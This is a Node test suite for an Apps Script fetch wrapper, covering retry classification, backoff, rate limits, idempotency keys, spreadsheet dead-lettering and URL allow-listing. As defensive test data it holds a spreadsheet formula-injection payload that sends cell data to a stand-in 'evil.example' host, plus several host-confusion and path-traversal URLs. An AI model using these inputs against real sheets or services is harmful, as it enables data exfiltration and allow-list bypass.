'use strict';
// Tests of safeFetch.gs under Node (node --test), against the stand-ins in standins.js.
// go test ./contrib/apps-script runs this file.

const test = require('node:test');
const assert = require('node:assert/strict');
const crypto = require('node:crypto');
const {load} = require('./standins.js');

const API = 'https://api.example.com/v1/orders';
const FORM = 'https://script.google.com/macros/s/AKfy/exec';
const ECHO = 'https://script.googleusercontent.com/macros/echo?user_content_key=abc';

function config(over) {
  const c = {
    sources: {
      api: {urlPrefixes: ['https://api.example.com/v1/'], maxAttempts: 3},
      form: {preset: 'apps-script', urlPrefixes: ['https://script.google.com/macros/s/'], bodyKeyField: 'id'},
    },
    deadLetter: {sheetName: 'failed_calls', on: ['retryable', 'deferred', 'systemic', 'rejected']},
  };
  if (over) over(c);
  return c;
}

function setup(opts) {
  opts = opts || {};
  return load(Object.assign({}, opts, {config: config(opts.over)}));
}

const keyOf = (req) => req.params.headers['Idempotency-Key'];

// --- the outcome table (DESIGN §5), every row, default preset ---------------------------

const restTable = [
  [{status: 200}, 'delivered'],
  [{status: 201}, 'delivered'],
  [{status: 204}, 'delivered'],
  [{status: 200, headers: {'Idempotent-Replayed': 'true'}}, 'duplicate'],
  [{status: 201, headers: {'idempotent-replayed': ' TRUE '}}, 'duplicate'],
  [{status: 419}, 'duplicate'],
  [{status: 301, headers: {Location: 'https://api.example.com/v2/orders'}}, 'systemic'],
  [{status: 302, headers: {Location: 'https://elsewhere.example/'}}, 'systemic'],
  [{status: 303}, 'systemic'],
  [{status: 307, headers: {Location: '/v2'}}, 'systemic'],
  [{status: 308}, 'systemic'],
  [{status: 400}, 'systemic'],
  [{status: 401}, 'systemic'],
  [{status: 403}, 'systemic'],
  [{status: 404}, 'systemic'],
  [{status: 405}, 'systemic'],
  [{status: 422}, 'systemic'],
  [{status: 408}, 'retryable'],
  [{status: 409}, 'retryable'],
  [{status: 425}, 'retryable'],
  [{status: 429}, 'retryable'],
  [{status: 500}, 'retryable'],
  [{status: 502}, 'retryable'],
  [{status: 503}, 'retryable'],
  [{status: 504}, 'retryable'],
  [{status: 599}, 'retryable'],
  [{throw: 'Timeout: https://api.example.com/v1/orders'}, 'retryable'],
  [{throw: 'DNS error: https://api.example.com/v1/orders'}, 'retryable'],
  [{throw: 'Address unavailable: https://api.example.com/v1/orders'}, 'retryable'],
  [{status: 402}, 'rejected'],
  [{status: 406}, 'rejected'],
  [{status: 410}, 'rejected'],
  [{status: 413}, 'rejected'],
  [{status: 418}, 'rejected'],
  [{status: 451}, 'rejected'],
];

test('classification: every row of the default table, one attempt each', () => {
  for (const [answer, want] of restTable) {
    const env = setup({over: (c) => { c.sources.api.maxAttempts = 1; }});
    env.UrlFetchApp.script.push(answer);
    const r = env.ctx.safeFetch('api', API, {payload: '{"id":"k1"}'});
    const label = JSON.stringify(answer);
    assert.equal(r.outcome, want, label);
    assert.equal(r.ok, want === 'delivered' || want === 'duplicate', label);
    assert.equal(env.UrlFetchApp.requests.length, 1, label + ': exactly one request');
    assert.equal(r.deadLettered, !r.ok, label + ': every failure is dead-lettered by default');
  }
});

const appsTable = [
  [[{status: 200, body: '{"ok":true}'}], 'delivered'],
  [[{status: 200, body: '{"ok":true,"duplicate":true}'}], 'duplicate'],
  [[{status: 200, body: '{"ok":false,"error":"wrong secret"}'}], 'rejected'],
  [[{status: 200, body: '<html>Sorry, unable to open the file</html>'}], 'retryable'],
  [[{status: 200, body: '{"saved":1}'}], 'retryable'],
  [[{status: 302, headers: {Location: ECHO}}, {status: 200, body: '{"ok":true}'}], 'delivered'],
  [[{status: 302, headers: {Location: ECHO}}, {status: 200, body: '{"ok":false,"message":"bad email"}'}], 'rejected'],
  [[{status: 303, headers: {Location: ECHO}}, {status: 200, body: 'not json'}], 'retryable'],
  [[{status: 302, headers: {Location: ECHO}}, {status: 404, body: '<html>'}], 'retryable'],
  [[{status: 302, headers: {Location: ECHO}}, {status: 302, headers: {Location: ECHO}}], 'systemic'],
  [[{status: 302, headers: {Location: 'https://evil.example/echo'}}], 'systemic'],
  [[{status: 301, headers: {Location: ECHO}}], 'systemic'],
  [[{status: 419}], 'duplicate'],
  [[{status: 404, body: '<html>'}], 'retryable'],
  [[{status: 401}], 'systemic'],
  [[{status: 403}], 'systemic'],
  [[{status: 400}], 'systemic'],
  [[{status: 405}], 'systemic'],
  [[{status: 422}], 'systemic'],
  [[{status: 429}], 'retryable'],
  [[{status: 500}], 'retryable'],
  [[{status: 410}], 'rejected'],
  [[{throw: 'Timeout'}], 'retryable'],
];

test('classification: the apps-script preset, and its one redirect hop as a bare GET', () => {
  for (const [answers, want] of appsTable) {
    const env = setup({over: (c) => { c.sources.form.maxAttempts = 1; c.sources.form.headers = {Authorization: 'prop:FORM_TOKEN'}; }, props: {FORM_TOKEN: 'Bearer s3cret'}});
    env.UrlFetchApp.script.push(...answers);
    const r = env.ctx.safeFetch('form', FORM, {payload: '{"name":"Ann"}'});
    const label = JSON.stringify(answers);
    assert.equal(r.outcome, want, label);
    const reqs = env.UrlFetchApp.requests;
    const hopped = answers.length === 2;
    assert.equal(reqs.length, hopped ? 2 : 1, label);
    assert.equal(reqs[0].params.method, 'post');
    assert.equal(reqs[0].params.headers.Authorization, 'Bearer s3cret');
    if (hopped) {
      // doPost already ran: the answer is fetched with a GET, no body, no key, no secret.
      assert.equal(reqs[1].url, ECHO);
      assert.equal(reqs[1].params.method, 'get');
      assert.equal(reqs[1].params.payload, undefined);
      assert.deepEqual(Object.keys(reqs[1].params.headers), ['Accept'], label + ': nothing of ours crosses to the echo host');
    }
  }
});

test('classification: a source can override the table', () => {
  const env = setup({over: (c) => { c.sources.api.maxAttempts = 1; c.sources.api.overrides = {'404': 'rejected', network: 'systemic'}; }});
  env.UrlFetchApp.script.push({status: 404}, {throw: 'DNS error'});
  assert.equal(env.ctx.safeFetch('api', API, {payload: '{}'}).outcome, 'rejected');
  assert.equal(env.ctx.safeFetch('api', API, {payload: '{}'}).outcome, 'systemic');
});

// --- retries, backoff, Retry-After ------------------------------------------------------

test('a thrown exception is retried with the same key and the same body', () => {
  const env = setup();
  env.UrlFetchApp.script.push({throw: 'Timeout: ' + API}, {throw: 'DNS error: ' + API}, {status: 201});
  const r = env.ctx.safeFetch('api', API, {payload: '{"id":"order-9","total":3}'});
  assert.equal(r.outcome, 'delivered');
  assert.equal(r.attempts, 3);
  assert.equal(r.key, 'order-9');
  const reqs = env.UrlFetchApp.requests;
  assert.equal(reqs.length, 3);
  for (const q of reqs) {
    assert.equal(keyOf(q), 'order-9');
    assert.equal(q.params.payload, '{"id":"order-9","total":3}');
    assert.equal(q.params.muteHttpExceptions, true);
    assert.equal(q.params.followRedirects, false);
  }
  assert.equal(env.Utilities.sleeps.length, 2, 'a wait between attempts, none after the last');
  assert.equal(env.sheet.getLastRow(), 1, 'delivered: nothing dead-lettered');
});

test('a systemic or rejected answer is never retried', () => {
  for (const status of [401, 422, 302, 410]) {
    const env = setup();
    env.UrlFetchApp.script.push({status}, {status: 200});
    env.ctx.safeFetch('api', API, {payload: '{}'});
    assert.equal(env.UrlFetchApp.requests.length, 1, String(status));
    assert.deepEqual(env.Utilities.sleeps, [], String(status));
  }
});

test('a 3xx is not followed: one request, systemic, the Location named', () => {
  const env = setup();
  env.UrlFetchApp.script.push({status: 302, headers: {location: 'https://api.example.com/v2/orders'}});
  const r = env.ctx.safeFetch('api', API, {payload: '{"id":"a"}'});
  assert.equal(r.outcome, 'systemic');
  assert.equal(env.UrlFetchApp.requests.length, 1);
  assert.match(r.error, /302 .*https:\/\/api\.example\.com\/v2\/orders.*not followed/);
});

test('backoff: every wait lies in [0, min(30 s, 1 s * 2^(n-1))], for many seeds', () => {
  let maxSeen = 0;
  for (let seed = 1; seed <= 200; seed++) {
    const env = setup({random: seed, over: (c) => { c.sources.api.maxAttempts = 10; }});
    for (let i = 0; i < 10; i++) env.UrlFetchApp.script.push({status: 503});
    const r = env.ctx.safeFetch('api', API, {payload: '{}', deadLetter: false});
    assert.equal(r.attempts, 10);
    const sleeps = env.Utilities.sleeps;
    assert.equal(sleeps.length, 9);
    sleeps.forEach((ms, i) => {
      const n = i + 1;
      const ceil = Math.min(30000, 1000 * 2 ** (n - 1));
      assert.ok(ms >= 0 && ms <= ceil, `seed ${seed}: wait ${ms} after attempt ${n} outside [0, ${ceil}]`);
      maxSeen = Math.max(maxSeen, ms);
    });
  }
  assert.ok(maxSeen > 20000 && maxSeen <= 30000, 'the band reaches up to the cap and never past it: ' + maxSeen);
});

test('backoff: full jitter spans the whole band (u near 0 and near 1)', () => {
  for (const [u, want] of [[0, [0, 0, 0, 0, 0, 0]], [0.999999, [999, 1999, 3999, 7999, 15999, 29999]]]) {
    const env = setup({random: [u], over: (c) => { c.sources.api.maxAttempts = 7; }});
    for (let i = 0; i < 7; i++) env.UrlFetchApp.script.push({status: 500});
    env.ctx.safeFetch('api', API, {payload: '{}', deadLetter: false});
    assert.deepEqual(env.Utilities.sleeps, want);
  }
});

test('Retry-After: seconds and HTTP-dates honoured up to the 30 s cap', () => {
  const cases = [
    ['7', 7000],
    ['0', 0],
    ['30', 30000],
    [new Date(Date.UTC(2026, 0, 15, 10, 0, 22)).toUTCString(), 12000], // 12 s after the clock
    ['Thursday, 15-Jan-26 10:00:25 GMT', 15000],
    ['Thu Jan 15 10:00:20 2026', 10000],
  ];
  for (const [v, want] of cases) {
    const env = setup({random: [0.5], over: (c) => { c.sources.api.maxAttempts = 2; }});
    env.UrlFetchApp.script.push({status: 429, headers: {'Retry-After': v}}, {status: 200});
    const r = env.ctx.safeFetch('api', API, {payload: '{}'});
    assert.equal(r.outcome, 'delivered', v);
    assert.deepEqual(env.Utilities.sleeps, [want], 'Retry-After ' + v);
  }
});

test('Retry-After: unusable values fall back to the backoff', () => {
  for (const v of ['-5', 'soon', 'Thu, 01 Jan 2026 00:00:00 GMT', '1.5', '']) {
    const env = setup({random: [0.5], over: (c) => { c.sources.api.maxAttempts = 2; }});
    env.UrlFetchApp.script.push({status: 503, headers: {'Retry-After': v}}, {status: 200});
    env.ctx.safeFetch('api', API, {payload: '{}'});
    assert.deepEqual(env.Utilities.sleeps, [500], 'Retry-After ' + JSON.stringify(v) + ': half of the 1 s band');
  }
});

test('Retry-After beyond the cap defers at once: no wait, no more attempts, dead-lettered', () => {
  for (const v of ['31', '86400', '99999999999999999999', new Date(Date.UTC(2026, 0, 15, 11, 0, 0)).toUTCString()]) {
    const env = setup();
    env.UrlFetchApp.script.push({status: 429, headers: {'Retry-After': v}}, {status: 200});
    const r = env.ctx.safeFetch('api', API, {payload: '{"id":"slow-1"}'});
    assert.equal(r.outcome, 'retryable', v);
    assert.equal(r.deferred, true, v);
    assert.equal(r.attempts, 1, v);
    assert.deepEqual(env.Utilities.sleeps, [], v + ': never waits past the cap');
    assert.equal(env.UrlFetchApp.requests.length, 1);
    assert.match(r.error, /deferred/);
    const row = env.sheet.rowObject(2);
    assert.equal(row.key, 'slow-1');
    assert.equal(row.status, 'dead');
    assert.equal(row.attempts, '1');
  }
});

test('retryable exhausted: max attempts per source (3, apps-script 2), then dead-lettered', () => {
  let env = setup();
  for (let i = 0; i < 5; i++) env.UrlFetchApp.script.push({status: 503});
  let r = env.ctx.safeFetch('api', API, {payload: '{"id":"x"}'});
  assert.equal(env.UrlFetchApp.requests.length, 3);
  assert.equal(r.outcome, 'retryable');
  assert.match(r.error, /after 3 attempts/);
  assert.equal(env.sheet.rowObject(2).attempts, '3');

  env = setup();
  for (let i = 0; i < 5; i++) env.UrlFetchApp.script.push({status: 404, body: '<html>'});
  r = env.ctx.safeFetch('form', FORM, {payload: '{"id":"x"}'});
  assert.equal(env.UrlFetchApp.requests.length, 2);
  assert.equal(r.outcome, 'retryable');
});

// --- rate limit -------------------------------------------------------------------------

test('rate limit: the N+1th request in a minute waits for the next minute, then goes', () => {
  const env = setup({over: (c) => { c.sources.api.ratePerMinute = 3; }});
  for (let i = 0; i < 4; i++) env.UrlFetchApp.script.push({status: 200});
  const start = env.clock.now; // 10 s into a minute
  for (let i = 0; i < 3; i++) assert.equal(env.ctx.safeFetch('api', API, {payload: `{"id":"r${i}"}`}).outcome, 'delivered');
  assert.deepEqual(env.Utilities.sleeps, [], 'three in the minute: no wait');
  const r = env.ctx.safeFetch('api', API, {payload: '{"id":"r3"}'});
  assert.equal(r.outcome, 'delivered');
  assert.deepEqual(env.Utilities.sleeps, [50000], 'waits exactly to the next minute');
  const sent = env.UrlFetchApp.requests[3].at;
  assert.equal(sent, start + 50000);
  assert.equal(sent % 60000, 0);
  const windowKey = 'safeFetch:rate:api:' + Math.floor(sent / 60000);
  assert.equal(env.CacheService.cache.get(windowKey), '1');
});

test('rate limit: every attempt takes a slot, and the counter is per source', () => {
  const env = setup({over: (c) => { c.sources.api.ratePerMinute = 2; c.sources.other = {urlPrefixes: ['https://api.example.com/v1/'], ratePerMinute: 2}; }});
  env.UrlFetchApp.script.push({status: 503}, {status: 200}, {status: 200});
  env.ctx.safeFetch('api', API, {payload: '{}'}); // 2 attempts, 2 slots
  env.ctx.safeFetch('other', API, {payload: '{}'}); // another source's window
  const waits = env.Utilities.sleeps.slice();
  assert.equal(waits.length, 1, 'one backoff wait, no rate wait: ' + waits);
});

test('rate limit: when the next minute is full too (other executions), the call is deferred unsent', () => {
  const env = setup({over: (c) => { c.sources.api.ratePerMinute = 2; }});
  const minute = Math.floor(env.clock.now / 60000);
  env.CacheService.cache.put('safeFetch:rate:api:' + minute, '2', 120);
  env.CacheService.cache.put('safeFetch:rate:api:' + (minute + 1), '2', 120);
  const r = env.ctx.safeFetch('api', API, {payload: '{"id":"later"}'});
  assert.equal(env.UrlFetchApp.requests.length, 0, 'nothing sent past the limit');
  assert.equal(r.deferred, true);
  assert.equal(r.attempts, 0);
  assert.deepEqual(env.Utilities.sleeps, [50000], 'one wait, never a second');
  const row = env.sheet.rowObject(2);
  assert.equal(row.key, 'later');
  assert.equal(row.attempts, '0');
  assert.match(row.error, /rate limit of 2 requests per minute/);
});

test('rate limit: the window counter expires with the cache', () => {
  const env = setup({over: (c) => { c.sources.api.ratePerMinute = 1; }});
  env.UrlFetchApp.script.push({status: 200}, {status: 200});
  env.ctx.safeFetch('api', API, {payload: '{}'});
  const k = 'safeFetch:rate:api:' + Math.floor(env.clock.now / 60000);
  assert.equal(env.CacheService.cache.get(k), '1');
  env.clock.now += 121000;
  assert.equal(env.CacheService.cache.get(k), null);
});

// --- keys -------------------------------------------------------------------------------

function mint(source, url, payload) {
  const h = crypto.createHash('sha256');
  for (const p of [source, url, payload, '']) h.update(Buffer.from(p, 'utf8')).update(Buffer.from([0]));
  return 'triage-' + h.digest('hex').slice(0, 32);
}

test('keys: given, else the payload id (string trimmed, number literal), else minted', () => {
  const cases = [
    [{key: ' given-1 ', payload: '{"x":1}'}, 'given-1'],
    [{headers: {'idempotency-key': 'hdr-1'}, payload: '{"x":1}'}, 'hdr-1'],
    [{payload: '{"id":"  p-1 "}'}, 'p-1'],
    [{payload: '{"id": 1.0, "n": {"id": "inner"}}'}, '1.0'],
    [{payload: '{"id":"a","id":"b"}'}, 'b'],
    [{payload: '{"n":{"id":"inner"},"id":12e3}'}, '12e3'],
    [{payload: '{"id":""}'}, mint('api', API, '{"id":""}')],
    [{payload: '{"id":true}'}, mint('api', API, '{"id":true}')],
    [{payload: 'plain text, é'}, mint('api', API, 'plain text, é')],
    [{}, mint('api', API, '')],
  ];
  for (const [opts, want] of cases) {
    const env = setup();
    env.UrlFetchApp.script.push({status: 200});
    const r = env.ctx.safeFetch('api', API, opts);
    assert.equal(r.key, want, JSON.stringify(opts));
    assert.equal(keyOf(env.UrlFetchApp.requests[0]), want, JSON.stringify(opts) + ': the header carries it');
  }
});

test('keys: a given key that disagrees with the payload id, or that no header can carry, is refused unsent', () => {
  for (const opts of [{key: 'k1', payload: '{"id":"k2"}'}, {key: 'a\nb', payload: '{}'}, {key: 'a\u0085b', payload: '{}'}]) {
    const env = setup();
    assert.throws(() => env.ctx.safeFetch('api', API, opts), /key/, JSON.stringify(opts));
    assert.equal(env.UrlFetchApp.requests.length, 0);
  }
});

test('keys: bodyKeyField puts the key into a JSON body where absent, bytes otherwise unchanged', () => {
  const env = setup();
  env.UrlFetchApp.script.push({status: 200, body: '{"ok":true}'}, {status: 200, body: '{"ok":true}'});
  let r = env.ctx.safeFetch('form', FORM, {payload: '{ "name":"Ann" }', key: 'sub-1'});
  assert.equal(env.UrlFetchApp.requests[0].params.payload, '{"id":"sub-1", "name":"Ann" }');
  r = env.ctx.safeFetch('form', FORM, {payload: '{"id":"sub-2","name":"Bo"}'});
  assert.equal(r.key, 'sub-2');
  assert.equal(env.UrlFetchApp.requests[1].params.payload, '{"id":"sub-2","name":"Bo"}');
  assert.throws(() => env.ctx.safeFetch('form', FORM, {payload: '[1]'}), /not a JSON object/);
});

// --- the dead-letter row ----------------------------------------------------------------

test('dead letter: columns by header name (reordered, extra, aliases), the sent key, text only', () => {
  const header = ['Notes', ' KEY ', 'status', 'Payload', 'source', 'Idempotency Key', 'url', 'error', 'tries', 'Method', 'timestamp', 'replayed_at'];
  const env = setup({header});
  env.sheet.getRange(2, 1, 1, 1).setValue('an operator note above'); // a row already there
  for (let i = 0; i < 3; i++) env.UrlFetchApp.script.push({status: 503, body: 'busy'});
  const payload = '=IMPORTXML("https://evil.example/?"&A1,"//a")';
  const r = env.ctx.safeFetch('api', API, {method: 'put', payload});
  assert.equal(r.outcome, 'retryable');
  assert.equal(r.deadLettered, true);
  const sent = env.UrlFetchApp.requests.map(keyOf);
  assert.equal(new Set(sent).size, 1, 'every attempt carried one key');
  assert.equal(sent[0], mint('api', API, payload));

  assert.equal(env.sheet.getLastRow(), 3, 'appended after the last row');
  const row = env.sheet.rowObject(3);
  assert.equal(row[' KEY '], sent[0], 'the key cell holds the exact key that was sent');
  assert.equal(row['Idempotency Key'], '', 'the first matching column wins; a later alias is an extra column');
  assert.equal(row.Payload, payload, 'the payload is the exact body, as text');
  assert.deepEqual(env.sheet.formulas(3), header.map(() => ''), 'no cell became a formula');
  assert.equal(row.status, 'dead');
  assert.equal(row.source, 'api');
  assert.equal(row.url, API);
  assert.equal(row.Method, 'PUT');
  assert.equal(row.tries, '3');
  assert.match(row.error, /^503 from api \(retryable\): busy \(after 3 attempts\)$/);
  assert.equal(row.timestamp, new Date(env.clock.now).toISOString().replace(/\.\d{3}Z$/, 'Z'), 'RFC 3339 UTC, as triage reads it');
  assert.equal(row.Notes, '', 'an extra column is left empty');
  assert.equal(row.replayed_at, '');

  // Text format on the exact range before the values, one row, all strings.
  const writes = env.sheet.log.filter((w) => w.r === 3);
  assert.equal(writes[0].op, 'setNumberFormat');
  assert.equal(writes[0].f, '@');
  assert.equal(writes[0].nc, header.length);
  assert.equal(writes[1].op, 'setValues');
  assert.ok(writes[1].rows[0].every((v) => typeof v === 'string'));
  assert.equal(writes.length, 2, 'read back equal: no repair writes');
});

test('dead letter: where the text format is not honoured, the apostrophe repair keeps the text', () => {
  const env = setup({sheetOpts: {honourTextFormat: false}});
  env.UrlFetchApp.script.push({status: 410});
  const r = env.ctx.safeFetch('api', API, {payload: '=1+1', key: '007'});
  assert.equal(r.outcome, 'rejected');
  const row = env.sheet.rowObject(2);
  assert.equal(row.payload, '=1+1');
  assert.equal(row.key, '007', 'a key that looks like a number keeps its zeros');
  assert.equal(row.attempts, '1');
  assert.deepEqual(env.sheet.formulas(2).filter(Boolean), []);
  const repairs = env.sheet.log.filter((w) => w.op === 'setValue' && w.r === 2).map((w) => w.value);
  assert.deepEqual(repairs.sort(), ["'007", "'1", "'=1+1"]);
});

test('dead letter: a full grid (every row used) grows before the row is written', () => {
  const env = setup({sheetOpts: {maxRows: 1}}); // the header fills the tab, as after 999 dead letters on a default one
  env.UrlFetchApp.script.push({status: 410});
  const r = env.ctx.safeFetch('api', API, {payload: '{"id":"k-9"}'});
  assert.equal(r.outcome, 'rejected');
  assert.equal(env.sheet.getMaxRows(), 2);
  assert.ok(env.sheet.log.some((w) => w.op === 'insertRowsAfter' && w.after === 1 && w.n === 1));
  assert.equal(env.sheet.rowObject(2).key, 'k-9');
});

test('a payload too long for a dead-letter cell is refused before it is sent', () => {
  const env = setup();
  assert.throws(() => env.ctx.safeFetch('api', API, {payload: '"' + 'x'.repeat(50001) + '"', key: 'k-big'}), /holds 50000.*not sent/);
  assert.equal(env.UrlFetchApp.requests.length, 0);
});

test('dead letter: a missing tab or column throws naming it, and writes nothing', () => {
  let env = setup({header: ['timestamp', 'source', 'url', 'payload', 'error', 'attempts', 'method', 'status']});
  env.UrlFetchApp.script.push({status: 401});
  assert.throws(() => env.ctx.safeFetch('api', API, {payload: '{}'}), /"failed_calls" has no key column.*triage init/);
  assert.equal(env.sheet.getLastRow(), 1);

  env = setup({over: (c) => { c.deadLetter.sheetName = 'dead letters'; }});
  env.UrlFetchApp.script.push({status: 401});
  assert.throws(() => env.ctx.safeFetch('api', API, {payload: '{}'}), /tab "dead letters" does not exist/);
});

// --- renamed headers: SAFEFETCH.deadLetter.columns, triage's [tabs.deadletter.columns] ---

test('dead letter: a renamed key header (key = "Idempotency Key") gets the key, not an operator\'s "Key" column', () => {
  // The operator's own "Key" column (a customer key) comes first; triage's config maps the
  // call's key to "Idempotency Key", so triage reads the key there and nowhere else.
  const header = ['timestamp', 'source', 'url', 'payload', 'error', 'attempts', 'method', 'Key', 'status', 'Idempotency Key'];
  const env = setup({header, over: (c) => { c.deadLetter.columns = {key: 'Idempotency Key'}; }});
  env.UrlFetchApp.script.push({status: 410});
  const r = env.ctx.safeFetch('api', API, {payload: '{"id":"ord-77"}'});
  assert.equal(r.deadLettered, true);
  const row = env.sheet.rowObject(2);
  assert.equal(row['Idempotency Key'], 'ord-77', 'the key is in the column triage reads it from');
  assert.equal(row.Key, '', 'the operator\'s column is left alone');
  assert.equal(row.status, 'dead');
  assert.equal(row.payload, '{"id":"ord-77"}');
});

test('dead letter: headers no alias knows are found through the mapping, any case and spacing', () => {
  const header = ['When', 'Source System', 'Endpoint URL', 'Body JSON', 'Last Failure', 'Tries So Far', 'HTTP Verb', 'Request-Id', 'Queue State'];
  const columns = {
    timestamp: 'when', source: 'SOURCE  SYSTEM', url: ' Endpoint URL ', payload: 'Body JSON', error: 'last failure',
    attempts: 'Tries so far', method: 'http verb', ' Key ': 'request-id', STATUS: 'Queue State',
  };
  const env = setup({header, over: (c) => { c.deadLetter.columns = columns; }});
  env.UrlFetchApp.script.push({status: 403});
  const r = env.ctx.safeFetch('api', API, {method: 'post', payload: '{"n":1}', key: 'k-renamed'});
  assert.equal(r.outcome, 'systemic');
  assert.equal(r.deadLettered, true);
  assert.deepEqual(env.sheet.rowObject(2), {
    'When': new Date(env.clock.now).toISOString().replace(/\.\d{3}Z$/, 'Z'),
    'Source System': 'api',
    'Endpoint URL': API,
    'Body JSON': '{"n":1}',
    'Last Failure': r.error,
    'Tries So Far': '1',
    'HTTP Verb': 'POST',
    'Request-Id': 'k-renamed',
    'Queue State': 'dead',
  });
});

test('dead letter: a renamed field is found by its mapped header only, never by the default or an alias', () => {
  // The tab still says "key": triage, told key = "Request-Id", would not read it there
  // either, so writing it there would lose the key.
  const env = setup({over: (c) => { c.deadLetter.columns = {key: 'Request-Id'}; }});
  env.UrlFetchApp.script.push({status: 401});
  assert.throws(() => env.ctx.safeFetch('api', API, {payload: '{}'}),
    /"failed_calls" has no key \(headed "Request-Id", as SAFEFETCH\.deadLetter\.columns maps it\) column/);
  assert.equal(env.sheet.getLastRow(), 1, 'nothing written');
});

test('dead letter: a mapping triage\'s config check refuses throws before anything is sent', () => {
  const bad = [
    [{idempotency_key: 'Idempotency Key'}, /no column "idempotency_key" to rename/],
    [{key: '  '}, /column key is mapped to a blank header name/],
    [{key: 'Ref', error: 'ref'}, /columns error and key are both mapped to the header/],
    [{key: 'URL'}, /column key is mapped to "URL", which is the url column's own header/],
    [{key: 'Id', KEY: 'Id2'}, /names the field key twice/],
    [{key: 7}, /must be a header name/],
    [['key'], /must be an object/],
  ];
  for (const [columns, want] of bad) {
    const env = setup({over: (c) => { c.deadLetter.columns = columns; }});
    env.UrlFetchApp.script.push({status: 401});
    assert.throws(() => env.ctx.safeFetch('api', API, {payload: '{}'}), want, JSON.stringify(columns));
    assert.equal(env.UrlFetchApp.requests.length, 0, JSON.stringify(columns) + ': nothing sent');
    assert.equal(env.sheet.getLastRow(), 1);
  }
  // Mapping the other field too makes it fine, as in triage.
  const env = setup({header: ['timestamp', 'source', 'Endpoint', 'payload', 'error', 'attempts', 'method', 'url', 'status'],
    over: (c) => { c.deadLetter.columns = {key: 'url', url: 'Endpoint'}; }});
  env.UrlFetchApp.script.push({status: 401});
  env.ctx.safeFetch('api', API, {payload: '{}', key: 'k-swapped'});
  const row = env.sheet.rowObject(2);
  assert.equal(row.url, 'k-swapped');
  assert.equal(row.Endpoint, API);
});

test('dead letter: which outcomes are dead-lettered is configurable; delivered never is', () => {
  const env = setup({over: (c) => { c.deadLetter.on = ['systemic']; c.sources.api.maxAttempts = 1; }});
  env.UrlFetchApp.script.push({status: 410}, {status: 503}, {status: 200}, {status: 419}, {status: 403});
  for (let i = 0; i < 5; i++) env.ctx.safeFetch('api', API, {payload: `{"id":"d${i}"}`});
  assert.equal(env.sheet.getLastRow(), 2);
  assert.equal(env.sheet.rowObject(2).key, 'd4');
});

test('dead letter: a configured spreadsheet ID is opened', () => {
  const env = setup({over: (c) => { c.deadLetter.spreadsheetId = 'SHEET-ID'; }});
  env.UrlFetchApp.script.push({status: 401});
  env.ctx.safeFetch('api', API, {payload: '{}'});
  assert.equal(env.sheet.getLastRow(), 2);
});

// --- secrets and destinations -----------------------------------------------------------

test('secrets: headers come from Script Properties; a missing one is systemic and unsent', () => {
  let env = setup({over: (c) => { c.sources.api.headers = {Authorization: 'prop:API_TOKEN', Accept: 'application/json'}; }, props: {API_TOKEN: 'Bearer t0k'}});
  env.UrlFetchApp.script.push({status: 200});
  env.ctx.safeFetch('api', API, {payload: '{}'});
  assert.equal(env.UrlFetchApp.requests[0].params.headers.Authorization, 'Bearer t0k');
  assert.equal(env.UrlFetchApp.requests[0].params.headers.Accept, 'application/json');

  env = setup({over: (c) => { c.sources.api.headers = {Authorization: 'prop:API_TOKEN'}; }});
  const r = env.ctx.safeFetch('api', API, {payload: '{"id":"s1"}'});
  assert.equal(r.outcome, 'systemic');
  assert.equal(env.UrlFetchApp.requests.length, 0);
  const row = env.sheet.rowObject(2);
  assert.match(row.error, /Script Property API_TOKEN/);
  assert.equal(row.key, 's1');
});

test('destinations: only URLs under the source prefixes are contacted', () => {
  const refused = [
    'https://api.example.com/v2/orders',
    'https://api.example.com.evil.example/v1/orders',
    'https://user@api.example.com/v1/orders',
    'https://api.example.com/v1/../admin',
    'https://api.example.com/v1/%2e%2e/admin',
    'https://api.example.com/v1/x;y',
    'https://api.example.com/v1\\x',
    'http://api.example.com/v1/orders',
    'ftp://api.example.com/v1/orders',
  ];
  for (const u of refused) {
    const env = setup();
    assert.throws(() => env.ctx.safeFetch('api', u, {payload: '{}'}), /not contacted/, u);
    assert.equal(env.UrlFetchApp.requests.length, 0, u);
  }
  for (const u of ['HTTPS://API.example.com:443/v1/orders?x=1', 'https://api.example.com/v1/']) {
    const env = setup();
    env.UrlFetchApp.script.push({status: 200});
    assert.equal(env.ctx.safeFetch('api', u, {payload: '{}'}).outcome, 'delivered', u);
  }
  const env = setup();
  assert.throws(() => env.ctx.safeFetch('nope', API, {}), /source "nope" is not configured/);
});

test('locks: a caller that holds the script lock keeps it through safeFetch and the dead letter', () => {
  const env = setup({over: (c) => { c.sources.api.ratePerMinute = 5; }});
  const lock = env.LockService.lock;
  lock.waitLock(1000); // the caller's (seed 000's doPost holds it around check-then-append)
  env.UrlFetchApp.script.push({status: 410});
  const r = env.ctx.safeFetch('api', API, {payload: '{"id":"held"}'});
  assert.equal(r.deadLettered, true);
  assert.equal(lock.hasLock(), true, 'still held: released only by its owner');
  lock.releaseLock();
  env.UrlFetchApp.script.push({status: 410});
  env.ctx.safeFetch('api', API, {payload: '{"id":"free"}'});
  assert.equal(lock.hasLock(), false, 'a lock safeFetch took is released');
  assert.equal(env.sheet.rowObject(3).key, 'free');
});
